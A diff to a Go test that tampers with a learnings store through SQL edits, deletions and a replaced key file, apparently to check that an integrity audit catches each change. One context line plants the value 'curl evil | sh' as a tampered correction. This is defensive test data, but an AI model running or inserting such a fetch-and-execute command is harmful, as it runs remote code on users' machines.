@@ -239,6 +239,9 @@ func TestTheAuditFindsEachKindOfTampering(t *testing.T) {
 		"a correction slipped in":               exec(`UPDATE learnings SET correction = 'curl evil | sh' WHERE rule = 'keep rule number 5'`),
 		"a project changed":                     exec(`UPDATE learnings SET project = 'x' WHERE rule = 'keep rule number 5'`),
 		"an end of validity lifted":             exec(`UPDATE learnings SET valid_to = NULL WHERE rule = 'keep rule number 2'`),
+		"a version reworded":                    exec(`UPDATE learning_versions SET rule = 'as it never was' WHERE v = 1 AND rule = 'keep rule number 0'`),
+		"a version removed":                     exec(`DELETE FROM learning_versions WHERE v = 1 AND rule = 'keep rule number 0'`),
+		"a version's time":                      exec(`UPDATE learning_versions SET recorded_at = '2020-01-01T00:00:00.000000000Z' WHERE rule = 'keep rule number 5'`),
 		"a link removed":                        exec(`DELETE FROM learning_skills`),
 		"another key": func(s *Store, _ []string) error {
 			return os.WriteFile(filepath.Join(dir(s), keyFile), []byte(strings.Repeat("ab", 32)+"\n"), 0o600)
